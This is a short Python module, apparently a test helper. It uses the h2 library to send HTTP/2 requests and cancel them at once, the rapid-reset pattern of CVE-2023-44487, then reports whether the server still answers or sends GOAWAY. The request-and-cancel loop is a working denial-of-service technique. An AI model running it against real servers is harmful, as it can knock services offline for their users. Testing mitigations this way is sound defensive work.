"""A client that makes requests and cancels them at once (as in CVE-2023-44487)."""

from h2.config import H2Configuration
from h2.connection import H2Connection
from h2.errors import ErrorCodes
from h2.events import ConnectionTerminated, PingAckReceived, StreamEnded

PATH = "/00"


def cancel(peer, count: int) -> tuple[bool, tuple[int, int] | None]:
    """Send ``count`` requests and cancel them, then one more: whether that was answered, and a GOAWAY."""
    client = _Client(peer)
    for stream in [client.ask() for _ in range(count)]:
        client.http.reset_stream(stream, ErrorCodes.CANCEL)
    client.http.ping(bytes(8))
    client.send()
    client.hear_until(lambda event: isinstance(event, PingAckReceived))  # so all before it was taken, or refused
    if not client.open:
        return False, client.goaway
    last = client.ask()
    client.send()
    client.hear_until(lambda event: isinstance(event, StreamEnded) and event.stream_id == last)
    return client.open, client.goaway


class _Client:
    """Asks without a look at the server's SETTINGS, so that nothing of its own keeps it from asking too much."""

    def __init__(self, peer):
        self.http = H2Connection(H2Configuration(client_side=True))
        self.http.initiate_connection()
        self.goaway, self.open, self._peer = None, True, peer

    def ask(self) -> int:
        stream = self.http.get_next_available_stream_id()
        fields = [(":method", "GET"), (":scheme", "http"), (":authority", "localhost"), (":path", PATH)]
        self.http.send_headers(stream, fields, end_stream=True)
        return stream

    def send(self):
        if data := self.http.data_to_send():
            self._peer.send(data)

    def hear_until(self, wanted) -> None:
        """Take what comes until it is ``wanted``; if the server closes or falls silent first, nothing is open."""
        while data := self._receive():
            events = self.http.receive_data(data)
            for event in events:
                if isinstance(event, ConnectionTerminated):
                    self.goaway, self.open = (int(event.error_code), event.last_stream_id), False
            if not self.open or any(map(wanted, events)):
                return
            self.send()
        self.open = False

    def _receive(self):
        try:
            return self._peer.receive()
        except ConnectionError:
            return b""
